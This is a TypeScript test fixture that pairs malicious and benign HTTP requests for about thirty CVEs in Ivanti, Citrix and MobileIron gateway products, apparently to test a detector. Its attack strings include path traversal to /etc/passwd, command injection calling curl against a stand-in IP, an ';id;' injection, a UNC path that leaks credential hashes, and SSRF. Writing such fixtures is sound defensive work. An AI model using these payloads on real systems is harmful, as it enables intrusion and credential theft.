import type { Cases } from './cases.ts';

export const gatewaysIvantiCitrix: Cases = {
  'CVE-2019-11510': [
    'GET /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/',
    'GET /dana-na/auth/url_default/welcome.cgi',
  ],
  'CVE-2023-46805': [
    'GET /api/v1/totp/user-backup-code/../../system/system-information',
    'GET /api/v1/totp/user-backup-code',
  ],
  'CVE-2024-21887': [
    'GET /api/v1/totp/user-backup-code/../../license/keys-status/%3Bcurl%20198.51.100.7',
    'GET /api/v1/license/keys-status/4711',
  ],
  'CVE-2024-21893': [
    'POST /dana-ws/saml20.ws\n\n<ds:KeyInfo><ds:RetrievalMethod URI="http://127.0.0.1/"/></ds:KeyInfo>',
    'POST /ws/saml20.ws\n\n<ds:KeyInfo/>',
  ],
  'CVE-2024-22024': [
    'POST /dana-na/auth/saml-sso.cgi\n\nSAMLRequest=PCFET0NUWVBFIGEgW10%2B',
    'POST /dana-na/auth/saml-sso.cgi\n\nSAMLRequest=PHNhbWxwOkF1dGhuUmVxdWVzdD4',
  ],
  'CVE-2025-0282': [
    `bytes:clientIp=127.0.0.1 clientHostName=a clientCapabilities=${'A'.repeat(300)}`,
    'bytes:clientCapabilities=basic',
  ],
  'CVE-2025-22457': [
    `GET /\nX-Forwarded-For: ${'1.'.repeat(100)}`,
    'GET /\nX-Forwarded-For: 198.51.100.7, 198.51.100.8',
  ],
  'CVE-2021-22893': ['POST /dana/meeting/x\n\na=b', 'POST /meeting/x\n\na=b'],
  'CVE-2023-38035': ['POST /mics/services/MICSLogService\n\nc=1', 'POST /services/LogService\n\nc=1'],
  'CVE-2023-35078': ['GET /mifs/aad/api/v2/authorized/users?adminDeviceSpaceId=1', 'GET /mifs/api/v2/ping'],
  'CVE-2023-35082': ['GET /mifs/asfV3/api/v2/authorized/users', 'GET /mifs/user/login.jsp'],
  'CVE-2025-4428': ['GET /mifs/rs/api/v2/featureusage?format=%24%7B7*7%7D', 'GET /api/v2/usage?format=${x}'],
  'CVE-2026-1281': [
    'GET /mifs/c/appstore/fob/3/5/sha256:kid=1,st=theValue%20%20,h=gPath%5B%60sleep%205%60%5D/x.ipa',
    'GET /mifs/c/appstore/fob/3/5/sha256:kid=1,st=2,h=ab/x.ipa',
  ],
  'CVE-2024-7593': [
    'POST /apps/zxtm/wizard.fcgi?error=1&section=Access+Management%3ALocalUsers\n\ncreate_user=Create',
    'GET /apps/zxtm/login.cgi',
  ],
  'CVE-2024-8963': ['GET /client/index.php%3F.php/gsb/users.php', 'GET /client/index.php?page=gsb'],
  'CVE-2024-8190': [
    'POST /gsb/datetime.php\n\nTIMEZONE=;id;',
    'POST /gsb/datetime.php\n\nTIMEZONE=Europe/Oslo',
  ],
  'CVE-2024-29824': [
    'POST /WSStatusEvents/EventHandler.asmx\n\n<RecordGoodApp/>',
    'POST /Status/EventHandler.asmx\n\n<a/>',
  ],
  'CVE-2024-13159': [
    'POST /WSVulnerabilityCore/VulCore.asmx\n\n<GetHashForWildcardRecursive><wildcard>\\\\198.51.100.7\\a</wildcard></GetHashForWildcardRecursive>',
    'POST /WSVulnerabilityCore/VulCore.asmx\n\n<GetVersion/>',
  ],
  'CVE-2021-44529': [
    'GET /client/index.php\nCookie: ab=ab; c=Y2Q=; d=; e=ab;',
    'GET /client/index.php\nCookie: session=ab',
  ],
  'CVE-2019-19781': ['GET /vpn/../vpns/cfg/smb.conf', 'GET /vpn/index.html'],
  'CVE-2023-3519': [
    `GET /gwtest/formssso?event=start&target=${'A'.repeat(120)}`,
    'GET /gwtest/forms?target=a',
  ],
  'CVE-2023-4966': [
    `GET /oauth/idp/.well-known/openid-configuration\nHost: ${'a'.repeat(600)}`,
    'GET /.well-known/openid-configuration',
  ],
  'CVE-2025-5777': [
    'POST /p/u/doAuthentication.do\n\nlogin',
    'POST /u/authentication.do\n\nlogin=mara&passwd=x',
  ],
  'CVE-2023-24489': [
    'POST /documentum/upload.aspx?parentid=a&raw=1&unzip=on&uploadid=x\\..\\..\\a.aspx&filename=a.aspx',
    'POST /upload.aspx?parentid=a',
  ],
  'CVE-2020-8193': [
    'POST /pcidss/report?type=allprofiles&sid=loginchallengeresponse1requestbody&username=nsroot&set=1',
    'GET /report?type=allprofiles',
  ],
  'CVE-2020-8209': [
    'GET /jsp/help-sb-download.jsp?sbFileName=../../../etc/passwd',
    'GET /jsp/help-sb-download.jsp?sbFileName=guide.pdf',
  ],
  'CVE-2024-6235': ['GET /internal/v2/config/mps_secret/ADM_SESSIONID', 'GET /internal/v2/config/status'],
  'CVE-2025-34027': ['POST /portalapi/v1/package/spack/upload;%2fv1%2fping', 'POST /portalapi/v1/ping'],
};
